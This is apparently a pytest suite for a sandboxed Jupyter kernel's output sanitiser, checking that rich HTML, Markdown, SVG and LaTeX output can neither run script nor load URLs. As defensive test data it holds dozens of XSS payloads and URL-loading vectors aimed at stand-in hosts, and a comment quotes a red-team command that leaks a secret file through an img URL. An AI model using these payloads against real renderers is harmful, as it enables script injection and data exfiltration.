"""Rich output is untrusted: what reaches the browser is passive unless the admin allows more.

The red team ran script in JupyterLab (and from there the Jupyter contents API) through
``display --html '<img onerror=...>'`` and ``display -t application/javascript``. The browser
side is proven in tests/kernel/test_browser.py; these check the sanitiser and the kernel path."""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from sandbox_kernel.kernel.protocol.sanitize import clean_svg, passive_bundle, UnsafeContent

ACTIVE = re.compile(r"<script|onerror|onload|onclick|javascript:|<iframe|<form|<foreignObject|<animate"
                    r"|<set\b|@import|<object|<embed|<meta|<base|<link", re.IGNORECASE)

HTML_PAYLOADS = [
    '<img src=x onerror="alert(1)">',
    '<script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="/lab"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="/api/contents" method="post"><input name="a"><button>go</button></form>',
    '<svg onload=alert(1)><circle r=5 /></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<object data="x.swf"></object><embed src="x">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">',
    '<style>@import url(http://evil/);</style><link rel=stylesheet href=http://evil/>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<details open ontoggle=alert(1)>x</details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_payloads_are_made_passive(payload):
    data, _, _ = passive_bundle({"text/html": payload})
    assert not ACTIVE.search(data.get("text/html", "")), data


def test_benign_html_survives():
    html = ('<table class="dataframe"><thead><tr><th>a</th></tr></thead><tbody><tr><td style="color: red">1</td>'
            '</tr></tbody></table><b>bold</b> <a href="https://example.org">link</a>'
            '<img src="data:image/png;base64,iVBORw0KGgo=" width="10">')
    out = passive_bundle({"text/html": html})[0]["text/html"]
    for kept in ('class="dataframe"', "<th>a</th>", 'style="color:red"', "<b>bold</b>",
                 'href="https://example.org"', 'src="data:image/png;base64,iVBORw0KGgo="'):
        assert kept.replace(" ", "") in out.replace(" ", ""), (kept, out)


def test_output_cannot_dress_up_as_the_ui():
    out = passive_bundle({"text/html": '<div class="jp-Dialog lm-Widget mine" style="position:fixed;'
                                       'top:0;z-index:9999;color:blue">x</div>'})[0]["text/html"]
    assert "jp-Dialog" not in out and "lm-Widget" not in out and "mine" in out
    assert "position" not in out and "z-index" not in out and "color:blue" in out


def test_markdown_is_rendered_and_cleaned_math_kept():
    data, _, notes = passive_bundle({"text/markdown": "# T\n\n*e* $a_1 * b_<2$ <img src=x onerror=alert(1)> "
                                                      "[c](javascript:alert(1)) [ok](https://x.org)"})
    html = data["text/html"]
    assert "<h1>T</h1>" in html and "<em>e</em>" in html and 'href="https://x.org"' in html
    assert "$a_1 * b_&lt;2$" in html  # MathJax typesets it; markdown did not eat the underscores
    assert "onerror" not in html and "href=\"javascript" not in html and not notes  # the link is text
    assert "text/markdown" not in data and data["text/plain"].startswith("# T")


def test_svg_keeps_drawing_drops_script():
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="a()">'
           '<script>alert(1)</script><foreignObject><div/></foreignObject>'
           '<a xlink:href="javascript:alert(2)"><rect width="10" height="10" onclick="x()" fill="url(#g)"/></a>'
           '<animate attributeName="href" to="javascript:alert(3)"/><set attributeName="onload" to="alert(4)"/>'
           '<style>@import url(http://evil/x.css); rect{fill:red}</style><use href="http://evil/x.svg#a"/>'
           '<image href="http://evil/p.png"/><linearGradient id="g"><stop offset="0"/></linearGradient>'
           '<text x="1" y="2">label</text></svg>')
    out = clean_svg(svg)
    assert not ACTIVE.search(out), out
    assert "evil" not in out
    for kept in ("<rect", 'fill="url(#g)"', "<linearGradient", "<stop", ">label</text>"):
        assert kept in out, (kept, out)


@pytest.mark.parametrize("bad", ['<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>',
                                 "<svg><unclosed></svg>", "<html><body/></html>"])
def test_svg_that_cannot_be_checked_is_refused(bad):
    with pytest.raises(UnsafeContent):
        clean_svg(bad)
    data, _, notes = passive_bundle({"image/svg+xml": bad, "text/plain": "<SVG>"})
    assert "image/svg+xml" not in data and notes and data["text/plain"] == "<SVG>"


def test_active_types_are_dropped_with_a_note():
    data, metadata, notes = passive_bundle(
        {"application/javascript": "alert(1)", "text/plain": "alert(1)",
         "application/vnd.vegalite.v5+json": {}, "text/latex": r"$\href{javascript:alert(1)}{x}$"},
        {"text/html": {"isolated": False}, "application/javascript": {"x": 1}})
    assert data == {"text/plain": "alert(1)"} and metadata == {}
    assert len(notes) == 3 and all("not shown" in n for n in notes)


def test_only_image_sizes_stay_in_metadata():
    _, metadata, _ = passive_bundle({"image/png": "iVBORw0KGgo=", "text/html": "<b>x</b>"},
                                    {"image/png": {"width": 40, "unconfined": True},
                                     "text/html": {"isolated": False}, "isolated": True})
    assert metadata == {"image/png": {"width": 40}}


def test_kernel_sends_only_passive_output(kc):
    """Through a real kernel: the shell's display and the JS engine's display.mime both go
    through the sanitiser; the user is told what was dropped."""
    from tests.support.kernelclient import execute, stream_text

    reply, messages = execute(kc, "display --html '<img src=x onerror=alert(1)><b>ok</b>'\n"
                                  "echo 'alert(1)' > a.js; display -t application/javascript a.js")
    assert reply["status"] == "ok"
    shown = [m["content"]["data"] for m in messages if m["msg_type"] == "display_data"]
    assert shown[0]["text/html"] == '<img><b>ok</b>'  # no relative URL; text/plain is shown as text
    assert shown[1] == {"text/plain": "alert(1)\n"}
    assert "application/javascript not shown" in stream_text(messages, "stderr")
    reply, messages = execute(kc, "%%js\ndisplay.mime({'application/javascript': 'alert(2)', "
                                  "'text/html': '<script>alert(3)</script><i>js</i>'}, {id: 'p'})")
    shown = [m["content"] for m in messages if m["msg_type"] == "display_data"]
    assert shown[0]["data"] == {"text/html": "<i>js</i>"}
    assert shown[0]["transient"]["display_id"] == "sandbox-p"


def test_display_counts_against_the_output_limit(kc):
    """Red team: `display` output was not counted against stdout_bytes (1.2 GB in 16 s)."""
    from tests.support.kernelclient import execute, run_ok, stream_text

    run_ok(kc, "%limits stdout_bytes=64K")
    try:
        reply, messages = execute(kc, "x=$(printf '%01000d' 0); for i in $(seq 400); "
                                      "do display --html \"<b>$x</b>\"; done",
                                  timeout=120)
        shown = [m for m in messages if m["msg_type"] == "display_data"]
        assert 28 <= len(shown) <= 36, len(shown)  # ~2 KB each (HTML + its text) within 64 KiB, then nothing
        assert stream_text(messages, "stderr").count("stdout truncated") == 1
    finally:
        run_ok(kc, "%limits stdout_bytes=1M")


# ---------------------------------------------------------------------------------------------
# Rich output as a network channel (third red team, item 5): `display --html "<img src='http://HOST/
# ?d=$(cat secret.txt)'>"` made Chromium fetch the URL as soon as the output rendered. No output
# may make the browser load anything by itself; links stay (they load nothing until clicked).
# These checks parse the sanitiser's output with a parser of their own (html.parser) and do not
# reuse its rules.

#: Attributes a browser fetches by itself; href and xlink:href too, except on links.
RESOURCE_ATTRIBUTES = {"src", "srcset", "lowsrc", "dynsrc", "poster", "background", "data", "codebase",
                       "archive", "longdesc", "manifest", "icon", "action", "formaction", "ping",
                       "imagesrcset", "profile"}
#: SVG presentation attributes that take url().
SVG_PAINT = {"fill", "stroke", "filter", "mask", "clip-path", "marker-start", "marker-mid", "marker-end", "cursor"}
#: MathJax macros that set CSS (JupyterLab typesets math in HTML and Markdown output).
TEX_CSS = re.compile(r"\\(?:style|bbox|class|cssId|href|require|unicode|html)", re.IGNORECASE)


def _css_loads(css: str) -> str | None:
    """What in ``css`` could fetch, after CSS escapes are undone; None if nothing. Comments
    stay: a ``/*`` in a string starts none."""
    css = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(min(int(m.group(1), 16), 0x10FFFF) or 0xFFFD), css)
    css = re.sub(r"\\(.)", r"\1", css).lower()
    for m in re.finditer(r"url\(\s*['\"]?\s*([^'\")\s]*)", css):
        if not m.group(1).startswith("#"):
            return m.group(0)
    found = re.search(r"image-set\(|image\(|cross-fade\(|element\(|src\(|@import|@font-face|expression\(", css)
    return found.group(0) if found else None


class _ResourceFinder(HTMLParser):
    """Every place in an HTML or SVG document that would make a browser fetch a URL."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_style = 0
        self.ignored_tex: list[int] = []  # depth of the elements MathJax skips
        self.depth = 0
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.depth += 1
        attrs = [(k.lower(), v or "") for k, v in attrs]
        names = dict(attrs)
        if tag in ("link", "meta", "base", "iframe", "frame", "object", "embed", "script", "portal"):
            self.found.append(f"<{tag}>")
        if tag == "style":
            self.in_style += 1
        if "mathjax_ignore" in names.get("class", "").split():
            self.ignored_tex.append(self.depth)
        for name, value in attrs:
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            if (name in RESOURCE_ATTRIBUTES or (name in ("href", "xlink:href") and tag not in ("a", "area"))) and url \
                    and not url.startswith(("data:", "#")):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and _css_loads(value):
                self.found.append(f"<{tag} style={value!r}>")
            elif name in SVG_PAINT and _css_loads(value):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if self.ignored_tex and self.ignored_tex[-1] == self.depth:
            self.ignored_tex.pop()
        if tag == "style":
            self.in_style = max(0, self.in_style - 1)
        self.depth -= 1

    def handle_data(self, data):
        if self.in_style and _css_loads(data):
            self.found.append(f"<style>{data!r}")
        if not self.ignored_tex:
            self.text += data


def remote_resources(document: str) -> list[str]:
    """The resource positions of ``document`` that hold a URL other than ``data:``/``#``."""
    finder = _ResourceFinder()
    finder.feed(document)
    finder.close()
    if TEX_CSS.search(finder.text):
        finder.found.append(f"MathJax would typeset {TEX_CSS.search(finder.text).group(0)}")
    return finder.found


H = "http://127.0.0.1:9/"
#: One vector per way the red team (and the brief after it) named to load a URL.
NETWORK_HTML = {
    "img src": f"<img src='{H}?d=secret'>",
    "img entity scheme": "<img src='&#104;ttp://127.0.0.1:9/'>",
    "img tab scheme": "<img src='\thttp://127.0.0.1:9/'>",
    "img upper scheme": "<img src='HTTP://127.0.0.1:9/'>",
    "img protocol-relative": "<img src='//127.0.0.1:9/'>",
    "img backslashes": "<img src='\\\\127.0.0.1:9\\x'>",
    "img relative": "<img src='/files/secret.txt'>",
    "img other scheme": "<img src='ftp://127.0.0.1:9/'>",
    "srcset": f"<img srcset='{H} 1x' src='data:image/png;base64,iVBORw0KGgo='>",
    "picture source": f"<picture><source srcset='{H}'><img></picture>",
    "image tag": f"<image src='{H}'>",
    "video poster": f"<video poster='{H}' src='{H}'><source src='{H}'><track src='{H}'></video>",
    "audio": f"<audio src='{H}' autoplay></audio>",
    "input image": f"<input type=image src='{H}'>",
    "table background": f"<table background='{H}'><tr><td background='{H}'>x</td></tr></table>",
    "body background": f"<body background='{H}'>x</body>",
    "link stylesheet": f"<link rel=stylesheet href='{H}'>",
    "link prefetch": f"<link rel=prefetch href='{H}'><link rel=dns-prefetch href='{H}'><link rel=preload href='{H}'>",
    "object": f"<object data='{H}'></object><embed src='{H}'>",
    "iframe": f"<iframe src='{H}'></iframe>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={H}'>",
    "a ping": f"<a href='https://example.org' ping='{H}'>x</a>",
    "style url": f"<div style=\"background-image:url('{H}')\">x</div>",
    "style url in allowed property": f"<div style=\"color:red; background:url({H})\">x</div>",
    "style escaped url": f"<div style=\"background:\\75 rl({H})\">x</div>",
    "style image-set": f"<div style='background-image:image-set(\"{H}\" 1x)'>x</div>",
    "style import": f"<div style=\"@import '{H}'\">x</div>",
    "style cursor": f"<div style='cursor:url({H}),auto'>x</div>",
    "style list": f"<ul style='list-style-image:url({H})'><li>x</li></ul>",
    "style element": f"<style>@import '{H}'; body {{ background: url({H}) }}</style>",
    "svg image": f"<svg><image href='{H}'/><use href='{H}#a'/><feImage href='{H}'/></svg>",
    "svg xlink": f"<svg><image xlink:href='{H}'/></svg>",
    "svg pattern": f"<svg><pattern href='{H}'/><rect fill='url({H}#p)'/></svg>",
    "mathjax style": f"<p>$\\style{{background-image:url({H})}}{{x}}$</p>",
    "mathjax bbox": f"<p>$$\\bbox[background:url({H})]{{x}}$$</p>",
    "mathjax across tags": f"<p>$\\sty<b></b>le{{cursor:url({H})}}{{x}}$</p>",
    "mathjax reenabled": f"<div class='mathjax_process tex2jax_process'>$\\style{{cursor:url({H})}}{{x}}$</div>",
}
NETWORK_MARKDOWN = {
    "image": f"![a]({H}?d=secret)",
    "reference image": f"![a][r]\n\n[r]: {H}",
    "protocol-relative image": "![a](//127.0.0.1:9/)",
    "relative image": "![a](/files/secret.txt)",
    "inline html": f"x <img src='{H}'> <video poster='{H}'></video>",
    "math style": f"$\\style{{background-image:url({H})}}{{x}}$",
    "display math bbox": f"$$\\bbox[border:1px; background:url({H})]{{x}}$$",
}
NETWORK_SVG = {
    "image href": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{H}"/></svg>',
    "image xlink": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                   f'<image xlink:href="{H}"/><use xlink:href="{H}#x"/></svg>',
    "relative image": '<svg xmlns="http://www.w3.org/2000/svg"><image href="/files/secret.txt"/></svg>',
    "fill url": f'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url({H}#g)" filter="url({H}#f)"/></svg>',
    "style url": f'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url({H})"/></svg>',
    "style escaped": f'<svg xmlns="http://www.w3.org/2000/svg"><style>rect {{ fill: \\75 rl({H}) }}</style></svg>',
    "style image-set": f'<svg xmlns="http://www.w3.org/2000/svg"><style>rect {{ fill: image-set("{H}") }}</style>'
                       '</svg>',
    "style font-face": f'<svg xmlns="http://www.w3.org/2000/svg"><style>@font-face {{ src: local(x), '
                       f'url({H}) }}</style></svg>',
    "pattern href": f'<svg xmlns="http://www.w3.org/2000/svg"><pattern href="{H}"/></svg>',
    "comment in a string": f'<svg xmlns="http://www.w3.org/2000/svg"><style>rect {{ --a: "/*" }} '
                           f'rect {{ fill: url({H}) }} g {{ --b: "*/" }}</style></svg>',
    "style after a child": f'<svg xmlns="http://www.w3.org/2000/svg"><style><a/>rect {{ fill: url({H}) }}'
                           '</style></svg>',
}


def _shown(bundle: dict) -> str:
    data, _, _ = passive_bundle(bundle)
    return data.get("text/html", "") + data.get("image/svg+xml", "")


@pytest.mark.parametrize("payload", NETWORK_HTML.values(), ids=NETWORK_HTML.keys())
def test_html_loads_nothing(payload):
    shown = _shown({"text/html": payload})
    assert not remote_resources(shown), shown
    assert remote_resources(payload), "the checker must see the vector in the raw payload"


@pytest.mark.parametrize("payload", NETWORK_MARKDOWN.values(), ids=NETWORK_MARKDOWN.keys())
def test_markdown_loads_nothing(payload):
    from markdown_it import MarkdownIt

    shown = _shown({"text/markdown": payload})
    assert not remote_resources(shown), shown
    assert remote_resources(MarkdownIt("commonmark", {"html": True}).render(payload))


@pytest.mark.parametrize("payload", NETWORK_SVG.values(), ids=NETWORK_SVG.keys())
def test_svg_loads_nothing(payload):
    shown = _shown({"image/svg+xml": payload})
    assert shown.startswith("<svg") and not remote_resources(shown), shown
    assert remote_resources(payload)


def test_latex_that_sets_css_is_refused():
    data, _, notes = passive_bundle({"text/latex": f"$\\bbox[5px, background:url({H})]{{x}}$", "text/plain": "x"})
    assert "text/latex" not in data and notes
    assert passive_bundle({"text/latex": r"$\bbox[red,5px]{x}$"})[0]["text/latex"] == r"$\bbox[red,5px]{x}$"


def test_passive_pictures_and_links_stay():
    """What loads nothing stays: inline raster images, colours and gradients, local SVG
    references, links (with no ping), math without active macros."""
    html = ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><a href="https://example.org/x">l</a>'
            '<span style="color: rgb(1, 2, 3); background-color: #fff">c</span><p>$x^2$</p>')
    out = _shown({"text/html": html})
    for kept in ('src="data:image/png;base64,iVBORw0KGgo="', 'href="https://example.org/x"', "rgb(1, 2, 3)",
                 "<p>$x^2$</p>"):
        assert kept in out, (kept, out)
    assert "mathjax_ignore" not in out
    svg = _shown({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><linearGradient id="g"/>'
                                   '<rect fill="url(#g)" transform="translate(1, 2) rotate(3)"/>'
                                   '<use href="#g"/><style>rect { fill: url(#g) }</style></svg>'})
    for kept in ('fill="url(#g)"', 'transform="translate(1, 2) rotate(3)"', 'href="#g"', "fill: url(#g)"):
        assert kept in svg, (kept, svg)


# ------------------------------------------------------------- property: a grammar of hostile pieces
URL_FORMS = ["http://127.0.0.1:9/x", "HTTP://127.0.0.1:9/", "&#104;ttp://127.0.0.1:9/", "\thttp://127.0.0.1:9/",
             "&#x68;&#x74;tp://127.0.0.1:9/", " //127.0.0.1:9/", "\\\\127.0.0.1:9/", "/files/s", "x.png",
             "ftp://127.0.0.1:9/", "java\nscript:alert(1)", "data:image/png;base64,iVBORw0KGgo=",
             "data:image/svg+xml,<svg/>", "#frag", "https:127.0.0.1:9", "h&#116;tps://127.0.0.1:9/"]
CSS_FORMS = ["url({u})", "url('{u}')", "url( \"{u}\" )", "URL({u})", "\\75 rl({u})", "u\\72l({u})",
             "image-set('{u}' 1x)", "-webkit-image-set(url({u}) 1x)", "cross-fade(url({u}), red)",
             "u/**/rl({u})", "image('{u}')", "'/*'; fill: url({u}); x: '*/'"]
TAGS = ["img", "image", "video", "audio", "source", "track", "input type=image", "link rel=stylesheet",
        "link rel=prefetch", "link rel=dns-prefetch", "object", "embed", "iframe", "frame", "body", "table", "td",
        "div", "a", "area", "meta http-equiv=refresh content='0;url=", "base", "svg", "use", "feImage", "pattern",
        "picture", "math", "style", "span", "p", "font"]
ATTRIBUTES = ["src", "srcset", "poster", "background", "href", "xlink:href", "data", "ping", "action",
              "formaction", "lowsrc", "style", "fill", "filter", "class", "title"]
CSS_PROPERTIES = ["background", "background-image", "color", "cursor", "list-style-image", "border-image",
                  "content", "mask", "width", "font"]


def _hostile_pieces():
    from hypothesis import strategies as st

    url = st.sampled_from(URL_FORMS)
    css = st.builds(lambda p, f, u: f"{p}:{f.format(u=u)}", st.sampled_from(CSS_PROPERTIES),
                    st.sampled_from(CSS_FORMS), url)
    value = st.one_of(url, css, st.builds(lambda u: f"{u} 1x, {u} 2x", url))
    attribute = st.builds(lambda a, v, q: f"{a}={q}{v}{q}", st.sampled_from(ATTRIBUTES), value,
                          st.sampled_from(["'", '"', ""]))
    open_tag = st.builds(lambda t, attrs: f"<{t} {' '.join(attrs)}>", st.sampled_from(TAGS),
                         st.lists(attribute, max_size=3))
    tex = st.builds(lambda m, u: f"${m}{{{u}}}{{x}}$", st.sampled_from(["\\style", "\\bbox[", "\\sty<b></b>le"]),
                    st.builds(lambda f, u: "background:" + f.format(u=u), st.sampled_from(CSS_FORMS), url))
    markdown = st.one_of(st.builds(lambda u: f"![a]({u})", url), st.builds(lambda u: f"![a][r]\n\n[r]: <{u}>\n", url),
                         st.builds(lambda u: f"[l]({u})", url))
    close = st.sampled_from(["</style>", "</svg>", "</a>", "</div>", "</math>", "<!--", "-->", "<![CDATA[", "]]>"])
    text = st.sampled_from(["x", "\n\n", "<", ">", "&", "'", '"', " ", "`", "*"])
    return st.lists(st.one_of(open_tag, close, tex, markdown, text, st.builds(lambda c: f"<style>{c}</style>", css)),
                    max_size=12).map("".join)


def test_property_no_output_loads_a_url():
    """Random HTML and Markdown built from hostile pieces: the sanitiser never raises, and
    what it keeps holds no URL in a resource position and no active MathJax macro."""
    from hypothesis import HealthCheck, given, settings

    @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
    @given(_hostile_pieces())
    def check(document):
        for mime in ("text/html", "text/markdown"):
            shown = _shown({mime: document})
            assert not remote_resources(shown), (mime, document, shown)

    check()


def test_property_svg_loads_nothing():
    """Random SVG documents (well-formed, from the same pieces as attributes and styles):
    UnsafeContent or a document that loads nothing."""
    from hypothesis import HealthCheck, given, settings, strategies as st
    from xml.sax.saxutils import quoteattr, escape

    url = st.sampled_from([u.replace("&#", "&amp;#") for u in URL_FORMS])
    css = st.builds(lambda p, f, u: f"{p}:{f.format(u=u)}", st.sampled_from(CSS_PROPERTIES),
                    st.sampled_from(CSS_FORMS), url)
    attribute = st.builds(lambda a, v: f"{a}={quoteattr(v)}",
                          st.sampled_from(["href", "xlink:href", "style", "fill", "filter", "mask", "src",
                                           "clip-path"]),
                          st.one_of(url, css))
    element = st.builds(lambda t, attrs, body: f"<{t} {' '.join(attrs)}>{escape(body)}</{t}>",
                        st.sampled_from(["image", "use", "feImage", "pattern", "rect", "a", "style", "g", "text"]),
                        st.lists(attribute, max_size=3),
                        st.one_of(st.just(""), css, st.builds("@import '{}';".format, url)))

    @settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(element, max_size=6))
    def check(elements):
        document = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                    + "".join(elements) + "</svg>")
        try:
            shown = clean_svg(document)
        except UnsafeContent:
            return
        assert not remote_resources(shown), (document, shown)

    check()


def test_every_display_path_loads_nothing(kc):
    """Through a real kernel with active output off: the shell's display, the JS engine's
    display.* and an execute_result bundle are all sanitised before they are sent."""
    from tests.support.kernelclient import execute

    from sandbox_kernel.kernel.protocol.relay import safe_output

    cells = [f"display --html \"<img src='{H}?d=$(echo secret)'>\"\n"
             f"display --markdown '![a]({H}md) ![b][r]\n\n[r]: //127.0.0.1:9/ref'\n"
             f"display --svg '{NETWORK_SVG['image xlink']}'",
             f"%%js\ndisplay.html(\"<img src='{H}js'>\"); display.markdown('![j]({H}jsmd)');\n"
             f"display.mime({{'text/html': '<p style=\"background:url({H}c)\">p</p>', "
             f"'image/svg+xml': '{NETWORK_SVG['image href']}'}})"]
    shown = []
    for cell in cells:
        reply, messages = execute(kc, cell)
        assert reply["status"] == "ok", reply
        shown += [m["content"]["data"] for m in messages if m["msg_type"] in ("display_data", "execute_result")]
    assert len(shown) == 6, shown
    for data in shown:
        for mime in ("text/html", "image/svg+xml"):
            assert not remote_resources(data.get(mime, "")), data
    value, _ = safe_output({"text/html": NETWORK_HTML["img src"], "text/markdown": NETWORK_MARKDOWN["image"]},
                           {}, False, None)
    assert value["text/html"] == "<img>", value
